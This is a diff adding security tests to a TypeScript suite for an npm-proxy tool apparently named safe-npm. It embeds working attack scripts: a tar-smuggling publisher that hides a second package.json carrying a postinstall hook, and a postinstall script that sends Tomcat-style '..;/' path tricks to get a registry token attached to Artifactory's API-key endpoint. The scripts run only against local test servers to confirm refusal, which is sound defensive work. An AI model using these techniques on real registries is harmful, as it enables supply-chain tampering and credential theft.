@@ -893,6 +893,131 @@ describe.skipIf(unavailable !== "")(
   },
 );
 
+/**
+ * A prepublishOnly script that builds its own tarball for the package being published: its
+ * first package.json is the real one, and a second, which only node-tar reads as
+ * `package/package.json` (a GNU header with a ustar prefix node-tar ignores; an old-GNU `N` long
+ * name node-tar applies), names the package at the same version with an install script. The
+ * control: the registry stores that document when it comes with the token.
+ */
+const SMUGGLER = String.raw`
+const fs = require("node:fs");
+const http = require("node:http");
+const zlib = require("node:zlib");
+function hdr(name, size, type, magic, prefix) {
+  const b = Buffer.alloc(512);
+  b.write(name, 0, 100, "utf8");
+  b.write("0000644\0", 100); b.write("0000000\0", 108); b.write("0000000\0", 116);
+  b.write(size.toString(8).padStart(11, "0") + "\0", 124);
+  b.write("00000000000\0", 136);
+  b.write(type, 156);
+  b.write(magic, 257, 8, "latin1");
+  b.write(prefix, 345, 155);
+  b.fill(0x20, 148, 156);
+  let sum = 0; for (const x of b) sum += x;
+  b.write(sum.toString(8).padStart(6, "0") + "\0 ", 148);
+  return b;
+}
+function entry(name, body, type = "0", magic = "ustar\u000000", prefix = "") {
+  const d = Buffer.from(body);
+  return Buffer.concat([hdr(name, d.length, type, magic, prefix), d, Buffer.alloc((512 - (d.length % 512)) % 512)]);
+}
+const pkg = JSON.parse(fs.readFileSync("package.json", "utf8"));
+const real = JSON.stringify({ name: pkg.name, version: pkg.version });
+const evil = JSON.stringify({ name: pkg.name, version: pkg.version, scripts: { postinstall: "echo SMUGGLED" } });
+const tricks = {
+  gnuPrefix: [entry("package/package.json", real), entry("package/package.json", evil, "0", "ustar  \0", "zzz")],
+  oldGnuN: [entry("package/package.json", real), entry("././@LongLink", "package/package.json\0", "N"), entry("package/readme", evil)],
+};
+const proxy = new URL(process.env.HTTP_PROXY || process.env.http_proxy);
+const registry = JSON.parse(fs.readFileSync("smuggle-target.json", "utf8")).registry;
+const results = {};
+const docs = {};
+const names = Object.keys(tricks);
+const next = (i) => {
+  if (i === names.length) {
+    fs.mkdirSync(".probe", { recursive: true });
+    fs.writeFileSync(".probe/smuggle.json", JSON.stringify({ results, docs }));
+    return;
+  }
+  const data = zlib.gzipSync(Buffer.concat([...tricks[names[i]], Buffer.alloc(1024)])).toString("base64");
+  const doc = JSON.stringify({
+    _id: pkg.name, name: pkg.name, "dist-tags": { latest: pkg.version },
+    versions: { [pkg.version]: { name: pkg.name, version: pkg.version } },
+    _attachments: { [pkg.name + "-" + pkg.version + ".tgz"]: { data } },
+  });
+  docs[names[i]] = doc;
+  const req = http.request({ host: proxy.hostname, port: proxy.port, method: "PUT",
+    path: registry + pkg.name.replace("/", "%2f"), headers: { "content-type": "application/json" } },
+    (res) => { res.resume(); res.on("end", () => { results[names[i]] = res.statusCode; next(i + 1); }); });
+  req.on("error", (e) => { results[names[i]] = e.message; next(i + 1); });
+  req.end(doc);
+};
+next(0);
+`;
+
+describe.skipIf(unavailable !== "")(
+  "safe-npm npm publish: a tarball whose package.json only node-tar reads",
+  () => {
+    let registry: PrivateRegistry;
+    let world: World;
+    let run: RunResult;
+    let seen: { results: Record<string, number | string>; docs: Record<string, string> };
+    beforeAll(async () => {
+      registry = await startPrivateRegistry({ packed });
+      world = publishWorld(registry, { prepublishOnly: "node smuggle.cjs" });
+      writeFileSync(join(world.project, "smuggle.cjs"), SMUGGLER);
+      writeFileSync(
+        join(world.project, "smuggle-target.json"),
+        JSON.stringify({ registry: registry.url }),
+      );
+      writeFileSync(
+        join(world.project, ".git", "info", "exclude"),
+        "smuggle.cjs\nsmuggle-target.json\n",
+      );
+      run = await world.run(["npm", "publish"], { env: { NODE_AUTH_TOKEN: registry.token } });
+      const file = join(world.project, ".probe", "smuggle.json");
+      seen = existsSync(file)
+        ? (JSON.parse(readFileSync(file, "utf8")) as typeof seen)
+        : { results: {}, docs: {} };
+    }, 300_000);
+    afterAll(async () => {
+      world?.dispose();
+      await registry?.close();
+    });
+
+    it("each smuggling upload is refused on its tarball; the real publish goes up", () => {
+      expect(seen.results, show(run)).toEqual({ gnuPrefix: 403, oldGnuN: 403 });
+      expect(run.stderr).toMatch(/tarball cannot be read: a tar header that is not POSIX ustar/);
+      expect(run.stderr).toMatch(/tarball cannot be read: a tar entry of type N/);
+      expect(run.exitCode, show(run)).toBe(0);
+      expect(registry.writes().map((r) => [r.method, r.auth])).toEqual([["PUT", "token"]]);
+      const doc = registry.published.get("@private/app-pkg") ?? {};
+      const attachment = Object.values(doc._attachments as Record<string, { data: string }>)[0];
+      expect(Buffer.from(attachment?.data ?? "", "base64").toString("latin1")).not.toContain(
+        "SMUGGLED",
+      );
+    });
+
+    it("control: with the token, the registry stores each smuggling document as it is", async () => {
+      for (const [trick, doc] of Object.entries(seen.docs)) {
+        const name = `@private/control-${trick.toLowerCase()}`;
+        const renamed = doc.replaceAll("@private/app-pkg", name);
+        const status = await put(
+          registry,
+          null,
+          name.replace("/", "%2f"),
+          { authorization: `Bearer ${registry.token}` },
+          renamed,
+        );
+        expect(status, trick).toBe(201);
+        expect(registry.published.has(name), trick).toBe(true);
+      }
+      expect(Object.keys(seen.docs)).toHaveLength(2);
+    });
+  },
+);
+
 describe.skipIf(unavailable !== "")(
   "safe-npm npm publish to a registry that requires a client certificate",
   () => {
@@ -970,6 +1095,227 @@ describe.skipIf(unavailable !== "")(
       };
       expect(seen.rc).not.toMatch(/certfile|keyfile/);
       expect(seen.key).toBeNull();
+    });
+  },
+);
+
+/**
+ * A credential is bound to its registry's path, and the server behind may read a path otherwise
+ * than the WHATWG parser: Tomcat (Artifactory) drops `;params` from each segment before it
+ * resolves dot segments, so `/npm/registry/..;/..;/api/security/apiKey` is its own API there. The
+ * server here resolves paths that way and logs what it resolved and which authorization came; a
+ * postinstall sends the tricks through the proxy (plain http, the https gateway; npm's
+ * credential and yarn berry's). The controls: the server does resolve them
+ * out of the registry (asked directly), and in the same run a plain read under the registry's
+ * path arrives with the token, so the proxy was adding it.
+ */
+interface TomcatHit {
+  method: string;
+  raw: string;
+  resolved: string;
+  auth: string | null;
+}
+
+/** Tomcat's order: drop `;…` from each segment, decode, then resolve `.` and `..`. */
+function tomcatResolve(raw: string): string {
+  const out: string[] = [];
+  for (const segment of (raw.split("?")[0] ?? "").split("/").slice(1)) {
+    let s = segment.replace(/;.*$/, "");
+    try {
+      s = decodeURIComponent(s);
+    } catch {}
+    if (s === "..") out.pop();
+    else if (s !== ".") out.push(s);
+  }
+  return `/${out.join("/")}`;
+}
+
+async function startTomcatLike(tls: TestCa | null): Promise<{
+  url: string;
+  hits: TomcatHit[];
+  close: () => Promise<void>;
+}> {
+  const hits: TomcatHit[] = [];
+  const handler = (req: http.IncomingMessage, res: http.ServerResponse): void => {
+    const raw = req.url ?? "";
+    const resolved = tomcatResolve(raw);
+    hits.push({ method: req.method ?? "", raw, resolved, auth: req.headers.authorization ?? null });
+    req.resume();
+    res.writeHead(200, { "content-type": "application/json" });
+    res.end(JSON.stringify({ resolved }));
+  };
+  const server =
+    tls === null
+      ? http.createServer(handler)
+      : https.createServer({ key: tls.key, cert: tls.cert }, handler);
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const { port } = server.address() as { port: number };
+  return {
+    url: `${tls === null ? "http" : "https"}://127.0.0.1:${port}`,
+    hits,
+    close: () => new Promise((resolve) => server.close(() => resolve())),
+  };
+}
+
+const PATH_TRICKS = [
+  "/npm/registry/..;/..;/api/security/apiKey",
+  "/api/security/apiKey;x.tgz",
+  "/npm/registry/%2e%2e;/%2e%2e;/api/security/apiKey",
+  "/npm/registry/..;foo/..;bar/api/security/apiKey",
+];
+
+describe.skipIf(unavailable !== "").each([
+  { name: "npm, http", scheme: "http", manager: MANAGERS[0] as Manager },
+  { name: "npm, https", scheme: "https", manager: MANAGERS[0] as Manager },
+  // yarn berry's credential (~/.yarnrc.yml's npmAuthToken for its npmRegistryServer).
+  { name: "yarn 4, http", scheme: "http", manager: MANAGERS[4] as Manager },
+])(
+  "the token stays under its registry's path (Tomcat-style server, $name)",
+  ({ scheme, manager }) => {
+    const TOKEN = "TOMCAT-PATH-SECRET";
+    let tls: TestCa | null = null;
+    let server: Awaited<ReturnType<typeof startTomcatLike>>;
+    let world: World;
+    let run: RunResult;
+    let results: Record<string, { status: number | null; body: string }>;
+    beforeAll(async () => {
+      tls = scheme === "https" ? await makeTestCa() : null;
+      server = await startTomcatLike(tls);
+      world = makeWorld({
+        projectInHome: true,
+        packageJson: {
+          scripts: { postinstall: "node attack.cjs" },
+          ...(manager.packageJson.packageManager === undefined
+            ? {}
+            : { packageManager: manager.packageJson.packageManager }),
+        },
+      });
+      const registry = `${server.url}/npm/registry/`;
+      if (manager.berry) {
+        writeFileSync(
+          join(world.home, ".yarnrc.yml"),
+          `npmRegistryServer: "${registry.replace(/\/$/, "")}"\nnpmAuthToken: "${TOKEN}"\n`,
+        );
+        writeFileSync(
+          join(world.project, ".yarnrc.yml"),
+          "nodeLinker: node-modules\nenableTelemetry: false\n",
+        );
+      }
+      // https: the host trusts the server's CA through `cafile` (beside the home).
+      const cafile = join(world.dir, "tomcat-ca.pem");
+      if (tls !== null) writeFileSync(cafile, tls.ca);
+      writeFileSync(
+        join(world.home, ".npmrc"),
+        `registry=${registry}\n//${new URL(registry).host}/npm/registry/:_authToken=${TOKEN}\nupdate-notifier=false\n${tls === null ? "" : `cafile=${cafile}\n`}`,
+      );
+      writeFileSync(
+        join(world.project, ".npmrc"),
+        "audit=false\nfund=false\nupdate-notifier=false\n",
+      );
+      // As any script can: plain http as absolute URIs to HTTP_PROXY; https through a CONNECT
+      // tunnel, trusting the gateway's CA as node inside does (NODE_EXTRA_CA_CERTS).
+      writeFileSync(
+        join(world.project, "attack.cjs"),
+        `const http = require("node:http");
+const tls = require("node:tls");
+const fs = require("node:fs");
+const proxy = new URL(process.env.HTTP_PROXY || process.env.http_proxy);
+const target = new URL(${JSON.stringify(server.url)});
+const paths = ${JSON.stringify(["/npm/registry/attack-control", ...PATH_TRICKS])};
+const results = {};
+const onResponse = (resolve) => (res) => {
+  let body = "";
+  res.on("data", (c) => (body += c));
+  res.on("end", () => resolve({ status: res.statusCode, body }));
+};
+const get = (path) =>
+  new Promise((resolve) => {
+    const fail = (e) => resolve({ status: null, body: e.message });
+    // A hung exchange is a result, not a hung install.
+    setTimeout(() => resolve({ status: null, body: "no answer in 60 s" }), 60000).unref();
+    if (target.protocol === "http:") {
+      const req = http.request(
+        { host: proxy.hostname, port: proxy.port, method: "GET", path: target.origin + path },
+        onResponse(resolve),
+      );
+      req.on("error", fail);
+      req.end();
+      return;
+    }
+    const connect = http.request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path: target.host });
+    connect.on("error", fail);
+    connect.on("connect", (res, socket) => {
+      if (res.statusCode !== 200) return resolve({ status: res.statusCode, body: "CONNECT refused" });
+      // One request by hand on the TLS socket: the status line and what follows are enough.
+      const s = tls.connect({ socket, host: target.hostname, servername: "" });
+      let raw = "";
+      s.on("data", (c) => (raw += c));
+      s.on("error", fail);
+      s.on("end", () => {
+        const status = Number(/^HTTP\\/1\\.1 (\\d+)/.exec(raw)?.[1] ?? Number.NaN);
+        resolve({ status: Number.isNaN(status) ? null : status, body: raw.split("\\r\\n\\r\\n").slice(1).join("") });
+      });
+      s.write("GET " + path + " HTTP/1.1\\r\\nHost: " + target.host + "\\r\\nConnection: close\\r\\n\\r\\n");
+    });
+    connect.end();
+  });
+(async () => {
+  for (const path of paths) results[path] = await get(path);
+  fs.mkdirSync(".probe", { recursive: true });
+  fs.writeFileSync(".probe/attack.json", JSON.stringify(results));
+})();
+`,
+      );
+      const bin = join(world.dir, "pm-bin");
+      mkdirSync(bin, { recursive: true });
+      if (manager.bin !== null) symlinkSync(manager.bin, join(bin, manager.tool));
+      run = await world.run([manager.tool, "install"], {
+        env: { PATH: `${bin}:${world.env.PATH}` },
+      });
+      const file = join(world.project, ".probe", "attack.json");
+      results = existsSync(file) ? (JSON.parse(readFileSync(file, "utf8")) as typeof results) : {};
+    }, 300_000);
+    afterAll(async () => {
+      world?.dispose();
+      await server?.close();
+    });
+
+    it("control: the server resolves each trick to its own API, outside the registry's path", async () => {
+      for (const path of PATH_TRICKS) {
+        const resolved = await new Promise<string>((resolve, reject) => {
+          (tls === null ? http : https)
+            .get(`${server.url}${path}`, tls === null ? {} : { ca: tls.ca }, (res) => {
+              let body = "";
+              res.on("data", (c: Buffer) => {
+                body += c.toString();
+              });
+              res.on("end", () => resolve((JSON.parse(body) as { resolved: string }).resolved));
+            })
+            .on("error", reject);
+        });
+        expect(resolved, path).toMatch(/^\/api\/security\/apiKey/);
+      }
+    });
+
+    it("control: in the same run a read under the registry's path arrived with the token", () => {
+      expect(run.exitCode, show(run)).toBe(0);
+      expect(results["/npm/registry/attack-control"]?.status, show(run)).toBe(200);
+      const control = server.hits.filter((h) => h.raw === "/npm/registry/attack-control");
+      expect(control.map((h) => h.auth)).toEqual([`Bearer ${TOKEN}`]);
+    });
+
+    it("each trick is refused with 403 and reported; the server never saw the token outside its path", () => {
+      for (const path of PATH_TRICKS) {
+        expect(results[path]?.status, `${path}\n${show(run)}`).toBe(403);
+        expect(results[path]?.body).toContain("safe-npm: refused");
+        expect(results[path]?.body).toContain("bound to its path");
+      }
+      const leaked = server.hits.filter(
+        (h) => h.auth !== null && !h.resolved.startsWith("/npm/registry/"),
+      );
+      expect(leaked).toEqual([]);
+      expect(run.stderr).toMatch(/refused \d+ requests to the registry 127\.0\.0\.1:\d+/);
+      expect(run.stderr + run.stdout).not.toContain(TOKEN);
     });
   },
 );
